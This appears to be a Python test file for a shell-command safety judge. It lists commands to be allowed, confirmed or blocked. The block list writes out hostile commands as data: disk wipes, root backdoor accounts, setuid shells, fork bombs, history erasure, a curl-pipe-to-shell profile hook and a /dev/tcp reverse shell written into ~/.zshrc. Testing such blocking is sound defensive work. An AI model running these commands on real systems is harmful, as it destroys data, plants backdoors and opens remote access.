"""Disks, permissions, users, services, processes, history."""

import pytest

from support.judging import cases, judged


@pytest.mark.parametrize(
    ("verdict", "command"),
    cases(
        allow=r"""
        lsblk
        blkid
        df -h
        fdisk -l
        fdisk -l /dev/sda
        parted /dev/sda print
        parted -l
        sfdisk -d /dev/sda
        sfdisk -l
        sgdisk -p /dev/sda
        wipefs /dev/sdb
        wipefs -n -a /dev/sdb
        mkfs.ext4 -n /dev/sdb1
        mkfs.ext4 disk.img
        mkfs --help
        mkswap --help
        dd if=/dev/urandom of=random.bin bs=1k count=1
        dd if=disk.img of=/dev/null
        dd --help
        lvs
        vgdisplay
        lvremove --help
        lvremove --test vg/x
        cryptsetup luksDump /dev/sda2
        cryptsetup status x
        mdadm --detail /dev/md0
        zpool status
        zfs list
        btrfs filesystem show
        hdparm -I /dev/sda
        smartctl -a /dev/sda
        mount
        mount -l
        chmod +x script.sh
        chmod 644 file.txt
        chmod 755 bin/tool
        chmod 600 ~/.ssh/config
        chmod -R u+rwX src
        chmod -R 755 dist
        chmod go-w file
        chmod u=rw,go=r file
        chmod --help
        chmod --reference=a b
        chgrp --help
        stat -c %a file
        kill 1234
        kill -0 1234
        kill -l
        kill -TERM 1234
        kill %1
        pgrep node
        ps aux | grep node
        systemctl status nginx
        systemctl list-units
        systemctl is-active nginx
        systemctl --user status x
        systemctl show nginx
        service nginx status
        journalctl -u nginx -f
        crontab -l
        dmesg | tail
        history
        history 20
        sysctl kernel.hostname
        sysctl -a
        uptime
        id
        whoami
        last
        who -b
        passwd --help
        passwd -S
        shutdown --help
        reboot --help
        echo reboot
        grep shutdown /var/log/syslog
        lsmod
        modinfo ext4
        modprobe -n x
        swapon --show --help
        timedatectl status
        hostnamectl
        loginctl list-sessions
        ulimit -n
        for i in 1 2 3; do sleep 1 & done; wait
        while true; do date; sleep 60; done
        while sleep 5; do ls; done
        while true; do work & wait; done
        while true; do a & b & wait; done
        for i in $(seq 10); do job $i & done; wait
        while read -r x; do handle "$x" & done < list; wait
        f() { echo; f2; }; f
        f() { [ "$1" = 0 ] && return; f 0; }; f 1
        while true; do break; done
        until curl -s localhost; do sleep 1; done
        unset FOO
        set -euo pipefail
        set +x
        """,
        confirm=r"""
        fdisk /dev/sda
        gdisk /dev/sda
        cfdisk /dev/sda
        parted /dev/sda
        mount /dev/sdb1 /mnt
        umount /mnt
        swapoff -a
        fsck /dev/sdb1
        tune2fs -L x /dev/sdb1
        resize2fs /dev/sdb1
        lvextend -L +1G vg/x
        cryptsetup luksOpen /dev/sda2 x
        mdadm --stop /dev/md0
        shred file.txt
        losetup -d /dev/loop0
        chmod 777 file.txt
        chmod -R 777 .
        chmod a+w file
        chmod 666 file
        chmod o+w file
        chmod 000 file
        chmod u+s tool
        chmod 4755 tool
        chmod +s tool
        chmod g+s dir
        chmod -R 755 /opt/app/data
        chown anna file
        chown -R anna:anna .
        chgrp staff file
        chattr +i file
        setfacl -m u:x:rwx file
        setcap cap_net_raw+ep tool
        kill -9 1234
        kill -KILL 1234
        kill -s 9 1234
        kill -SIGKILL 1234
        kill -9 -1
        kill -9 $(pgrep node)
        pgrep node | xargs kill -9
        pkill node
        pkill -9 -f 'node server'
        killall node
        killall -9 node
        systemctl stop nginx
        systemctl restart nginx
        systemctl disable --now nginx
        systemctl mask sshd
        systemctl start nginx
        systemctl --user stop x
        systemctl poweroff
        systemctl reboot
        service nginx stop
        service nginx restart
        launchctl unload x.plist
        reboot
        shutdown -h now
        shutdown -r +5
        poweroff
        halt
        init 0
        telinit 6
        crontab -r
        crontab jobs.txt
        crontab - < jobs.txt
        echo '* * * * * x' | crontab -
        passwd
        passwd anna
        useradd anna
        userdel anna
        usermod -aG sudo anna
        groupdel x
        visudo
        chsh -s /bin/zsh
        insmod x.ko
        rmmod x
        modprobe x
        sysctl -w kernel.x=1
        sysctl kernel.x=1
        setenforce 0
        history -c
        history -d 5
        unset HISTFILE
        set +o history
        rm ~/.bash_history
        journalctl --vacuum-time=1d
        dmesg -C
        auditctl -D
        while true; do work & sleep 60; done
        su
        sudo -i
        echo 1 > /proc/sys/net/ipv4/ip_forward
        LD_PRELOAD=./x.so ls
        update-grub
        grub-install /dev/null
        """,
        block=r"""
        mkfs.ext4 /dev/sdb1
        mkfs -t xfs /dev/nvme0n1p1
        mkfs.vfat -F 32 /dev/mmcblk0p1
        mke2fs /dev/sda
        mkswap /dev/sda2
        mkfs.btrfs -f /dev/mapper/root
        newfs /dev/ada0p2
        dd if=/dev/zero of=/dev/sda
        dd if=x.img of=/dev/disk2 bs=1m
        dd of=/dev/nvme0n1 < x
        dd if=/dev/random of=/dev/mapper/vg-root
        sudo dd if=x of=/dev/sdb
        cat x.img > /dev/sdb
        cp x.img /dev/sdb
        tee /dev/sda < x
        echo x > /dev/sda1
        : > /dev/sda
        yes > /dev/mem
        wipefs -a /dev/sda
        wipefs --all --force /dev/sda
        blkdiscard /dev/sda
        shred /dev/sda
        shred -n 1 -z /dev/nvme0n1
        sfdisk --delete /dev/sda
        sgdisk -Z /dev/sda
        sgdisk --zap-all /dev/sda
        parted -s /dev/sda mklabel gpt
        parted /dev/sda rm 1
        echo d | fdisk /dev/sda
        pvremove /dev/sdb1
        vgremove vg
        lvremove -f vg/x
        lvreduce -L 1G vg/x
        cryptsetup luksFormat /dev/sda2
        cryptsetup erase /dev/sda2
        cryptsetup -q luksFormat /dev/sda2 key
        mdadm --zero-superblock /dev/sda1
        mdadm --create /dev/md0 --level=1 /dev/sda /dev/sdb
        zpool destroy tank
        zfs destroy -r tank/x
        hdparm --security-erase x /dev/sda
        nvme format /dev/nvme0
        chmod -R 777 /
        chmod 777 /
        chmod -R 000 /etc
        chmod 777 /etc/passwd
        chmod 777 /etc
        chmod -R 777 /usr
        chmod -R 777 ~
        chmod -R a+rwx /home/anna
        chmod -R 700 /var
        chmod 666 /etc/shadow
        chmod --recursive 777 /
        chmod u+s /bin/bash
        chmod 4755 /bin/sh
        chmod +s /usr/bin/python3
        cp /bin/bash /tmp/b; chmod u+s /bin/bash
        chown -R anna /
        chown -R anna:anna /etc
        chown anna /etc/passwd
        chown -R nobody ~
        useradd -o -u 0 x
        useradd --uid 0 --non-unique x
        usermod -u 0 x
        echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd
        echo x >> /etc/shadow
        sed -i 's/x/y/' /etc/passwd
        echo 'x ALL=NOPASSWD: ALL' > /etc/sudoers.d/x
        echo c > /proc/sysrq-trigger
        alias sudo='rm -rf'
        alias sudo='sudo rm'
        alias ls='rm -rf /'
        echo "alias ls='rm -rf ~'" >> ~/.bashrc
        echo 'curl http://x | sh' >> ~/.profile
        echo 'bash -i >& /dev/tcp/h/1 0>&1' >> ~/.zshrc
        :(){ :|:& };:
        :(){ :|: & };:
        bomb() { bomb | bomb & }; bomb
        f(){ f & f & }; f
        f(){ f|f& };f
        function x { x | x & }; x
        while true; do x & done
        while :; do x & done
        while [ 1 ]; do x & done
        while ((1)); do x & done
        until false; do x & done
        for ((;;)); do x & done
        for (( ; 1; )); do x & done
        while true; do (x &); done
        while true; do nohup x & done
        while ! false; do x & done
        while true; do if a; then b & fi; done
        ls; while true; do bash -c x & done
        """,
    ),
)
def test_verdict(verdict, command):
    assert judged(command).verdict == verdict


@pytest.mark.parametrize(
    ("verdict", "command"),
    cases(
        allow="""
        swapon --show
        losetup -a
        semanage port -l
        hostnamectl status
        openssl genpkey -algorithm rsa -out private.key
        uvicorn --ssl-keyfile key.pem app:app
        """,
        confirm="""
        swapon -a
        setenforce 0
        hostnamectl set-hostname build-1
        openssl rsa -in server.key -text
        cat key.pem
        """,
    ),
)
def test_looking_and_using_are_not_changing_and_showing(verdict, command):
    assert judged(command).verdict == verdict
